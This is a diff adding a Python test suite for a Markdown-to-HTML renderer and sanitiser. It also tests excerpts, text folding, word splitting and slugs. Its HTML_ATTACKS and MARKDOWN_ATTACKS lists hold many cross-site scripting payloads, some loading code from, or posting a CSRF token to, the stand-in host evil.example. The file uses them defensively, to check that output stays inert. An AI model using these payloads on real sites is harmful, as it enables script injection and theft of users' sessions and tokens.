@@ -1,0 +1,315 @@
+"""Texts that people write: what is shown of them can do nothing but be read."""
+
+from __future__ import annotations
+
+import re
+import time
+from typing import TYPE_CHECKING, Any
+
+import html5lib
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from incubator.kernel import text
+from incubator.kernel.text import excerpt, fold, markdown_to_html, plain_text, slugify, words
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+    from xml.etree.ElementTree import Element
+
+# Raw HTML: what a member may type, and what a fault in the renderer might let through.
+HTML_ATTACKS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x00>alert(1)</script>",
+    "<script/xss>alert(1)</script>",
+    "</p><script>alert(1)//",
+    "<<script>alert(1);//<</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror  =  "alert(1)">',
+    "<img/src=`x`onerror=alert(1)>",
+    '<img src="javascript:alert(1)">',
+    "<img src=1 href=1 onerror='javascript:alert(1)'></img>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert&#40;1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<body onload=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='data:text/html,<script>alert(1)</script>'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='&#x6A;&#x61;vascript&#58;alert(1)'>x</a>",
+    "<a href='javascript&colon;alert(1)'>x</a>",
+    "<a href='javascript:1'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='/x' onclick='alert(1)'>x</a>",
+    "<a href='/x' style='position:fixed;inset:0'>x</a>",
+    "<a href='/x' target='_blank' id='confirm' class='btn'>x</a>",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<p id='status' class='toast' data-swap='#x'>x</p>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href='https://evil.example/'>",
+    "<form action='https://evil.example/'><input name=csrf_token><button>x</button></form>",
+    "<button formaction='javascript:alert(1)'>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<ol start='1\" onclick=\"alert(1)'><li>x</li></ol>",
+    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
+    "<code><p><script>alert(1)</script></code>",
+    "<isindex action='javascript:alert(1)' type=image>",
+    "<portal src='https://evil.example/'></portal>",
+    "<x onclick=alert(1)>x</x>",
+    "\u202e<script>alert(1)</script>",
+)
+# Markdown: what the renderer itself makes of hostile sources.
+MARKDOWN_ATTACKS = (
+    "<a href='//evil.example/'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x](java&#10;script:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x)",
+    "[x](//evil.example)",
+    "[x](\\\\evil.example)",
+    "[x](javascript:1)",
+    '[x](/y "onclick=alert(1)")',
+    "[x](/y '\"><script>alert(1)</script>')",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    '<https://example.org/"onmouseover=alert(1)>',
+    "![x](https://evil.example/pixel.gif)",
+    "![x](javascript:alert(1))",
+    '![x](x"onerror="alert(1))',
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "https://example.org/<script>alert(1)</script>",
+    "https://example.org/'onmouseover='alert(1)",
+    "# <img src=x onerror=alert(1)>",
+    "> <svg onload=alert(1)>",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "a<br onclick=alert(1)>b",
+    "**<b onmouseover=alert(1)>x**",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "[a]: <javascript:alert(1)> 'x'\n\n[a]",
+)
+ALLOWED = {"a": {"href", "title", "rel"}, "ol": {"start"}}
+NORMAL = (
+    "Un texte **gras**, *penché*, ~~barré~~ et du `code`.",
+    "# Titre\n\n## Sous-titre\n\n- un\n- deux\n  1. trois\n  2. quatre",
+    "3. Commencer à trois\n4. puis quatre",
+    "> Une citation\n> sur deux lignes\n\n---\n\nSuite & fin, 3 < 4 > 2 «\u202fici\u202f»",
+    "| a | b |\n|---|---|\n| 1 | 2 |",
+    '[notre fil](/entraide/3-x), [le site](https://example.org/?a=1&b=2 "titre"), x@example.org',
+    "https://example.org/chemin?q=é#ancre",
+    "```\nligne <1>\n  ligne 2\n```",
+    "L’été à Montréal\ncoûte 3\u00a0€ 🙂",
+)
+
+
+def elements(html: str) -> Iterator[Element]:
+    """What a browser would build of it."""
+    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
+    return (each for each in tree.iter() if each.tag != "DOCUMENT_FRAGMENT")
+
+
+def assert_inert(html: str) -> None:
+    for each in elements(html):
+        assert each.tag in text.TAGS, each.tag
+        assert set(each.attrib) <= ALLOWED.get(each.tag, set()), each.attrib
+        # Browsers drop these characters from an address before they read its scheme.
+        target = re.sub(r"[\x00-\x20]", "", each.attrib.get("href", "/")).lower()
+        assert re.match(r"https?://|mailto:|/(?![/\\])|#", target), target
+
+
+@pytest.fixture
+def raw(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A renderer that lets everything through: the walls stand alone."""
+
+    class Broken:
+        def render(self, source: str) -> str:
+            return source
+
+    monkeypatch.setattr(text, "_markdown", Broken())
+
+
+class NoWall:
+    """A sanitiser that does nothing."""
+
+    def clean(self, html: str, **_options: Any) -> str:
+        return html
+
+
+@pytest.mark.parametrize("attack", [*HTML_ATTACKS, *MARKDOWN_ATTACKS])
+def test_what_members_type_is_inert(attack: str) -> None:
+    assert_inert(markdown_to_html(attack))
+    assert_inert(markdown_to_html(f"Avant {attack} après"))
+
+
+@pytest.mark.parametrize("attack", HTML_ATTACKS)
+@pytest.mark.parametrize("fallen", ["none", "_cleaner", "nh3"])
+def test_each_wall_holds_alone(
+    raw: None, monkeypatch: pytest.MonkeyPatch, attack: str, fallen: str
+) -> None:
+    if fallen != "none":
+        monkeypatch.setattr(text, fallen, NoWall())
+    shown = markdown_to_html(attack)
+    assert "<script" not in shown.lower()
+    assert_inert(shown)
+
+
+@pytest.mark.parametrize("wall", ["_cleaner", "nh3"])
+def test_each_wall_is_really_there(raw: None, monkeypatch: pytest.MonkeyPatch, wall: str) -> None:
+    asked = []
+    real: Callable[..., str] = getattr(text, wall).clean
+
+    class Witness:
+        def clean(self, html: str, **options: Any) -> str:
+            asked.append(html)
+            return real(html, **options)
+
+    monkeypatch.setattr(text, wall, Witness())
+    markdown_to_html("<p>x</p>")
+    assert asked == ["<p>x</p>"]
+
+
+def test_without_walls_the_attacks_would_work(raw: None, monkeypatch: pytest.MonkeyPatch) -> None:
+    # The check itself is checked: it must see what the walls keep out.
+    for wall in ("_cleaner", "nh3"):
+        monkeypatch.setattr(text, wall, NoWall())
+    with pytest.raises(AssertionError):
+        assert_inert(markdown_to_html("<img src=x onerror=alert(1)>"))
+
+
+@pytest.mark.parametrize("source", NORMAL)
+def test_the_second_wall_changes_nothing_of_normal_texts(
+    monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    both = markdown_to_html(source)
+    monkeypatch.setattr(text, "nh3", NoWall())
+    first = markdown_to_html(source)
+    spelled = both.replace(' rel="noopener noreferrer nofollow"', "").replace("&nbsp;", "\u00a0")
+    assert spelled == first
+
+
+@pytest.mark.parametrize(
+    ("source", "shown"),
+    [
+        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
+        ("a\nb", "<p>a<br>\nb</p>"),
+        ("# A\n## B\n### C\n###### D", "<h3>A</h3>\n<h3>B</h3>\n<h4>C</h4>\n<h4>D</h4>"),
+        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
+        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
+        ("<b>a</b>", "<p>&lt;b&gt;a&lt;/b&gt;</p>"),
+        ("[a](/b)", '<p><a href="/b" rel="noopener noreferrer nofollow">a</a></p>'),
+        ("[a](#b)", '<p><a href="#b" rel="noopener noreferrer nofollow">a</a></p>'),
+        ("", ""),
+    ],
+)
+def test_markdown_becomes_html(source: str, shown: str) -> None:
+    assert markdown_to_html(source) == shown
+
+
+@given(st.text(max_size=200))
+def test_any_text_is_inert(source: str) -> None:
+    assert_inert(markdown_to_html(source))
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["[" * 30_000, "](" * 15_000, "> " * 15_000, "*a " * 10_000, "[a](b)" * 5_000, "`" * 30_000],
+)
+def test_thirty_thousand_hostile_characters_take_under_two_seconds(source: str) -> None:
+    start = time.process_time()
+    markdown_to_html(source)
+    assert time.process_time() - start < 2
+
+
+def test_plain_text_is_the_words_on_one_line() -> None:
+    html = markdown_to_html("# Titre\n\n- un &amp; **deux**\n- <trois>")
+    assert plain_text(html) == "Titre un & deux <trois>"
+
+
+def test_an_excerpt_is_cut_at_a_word() -> None:
+    assert excerpt("  court \n texte ") == "court texte"
+    assert excerpt("un deux, trois quatre", 12) == "un deux…"
+    assert excerpt("x" * 300) == "x" * 159 + "…"
+
+
+@given(st.text(max_size=400), st.integers(10, 200))
+def test_an_excerpt_is_never_longer_than_asked(source: str, length: int) -> None:
+    assert len(excerpt(source, length)) <= length
+
+
+@pytest.mark.parametrize(
+    ("source", "folded"),
+    [
+        ("Cœur d’Élise", "coeur d'elise"),
+        ("ÀÂÄ ÇÉÈÊË ÎÏ ÔÖ ÙÛÜ Ÿ", "aaa ceeee ii oo uuu y"),
+        ("Straße, Łódź, Ærø", "strasse, lodz, aero"),
+        ("ﬁn ① x²", "fin 1 x2"),
+    ],
+)
+def test_folding_forgets_case_accents_and_ligatures(source: str, folded: str) -> None:
+    assert fold(source) == folded
+
+
+@given(st.text(max_size=200))
+def test_words_are_what_an_index_can_hold(source: str) -> None:
+    for word in words(source):
+        assert re.fullmatch(r"[a-z0-9]+", word)
+    assert words(" ".join(words(source))) == words(source)
+
+
+def test_elisions_are_words_apart() -> None:
+    assert words("L’atelier d'à côté, n°3 !") == ["l", "atelier", "d", "a", "cote", "n", "3"]
+
+
+@pytest.mark.parametrize(
+    ("source", "slug"),
+    [
+        ("Élise Nguyen", "elise-nguyen"),
+        ("  --  ", "x"),
+        ("日本", "x"),
+        ("a" * 80, "a" * 60),
+        ("un deux" * 20, None),
+    ],
+)
+def test_a_slug_is_an_address_part(source: str, slug: str | None) -> None:
+    assert slug is None or slugify(source) == slug
+    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", slugify(source))
+    assert len(slugify(source)) <= 60
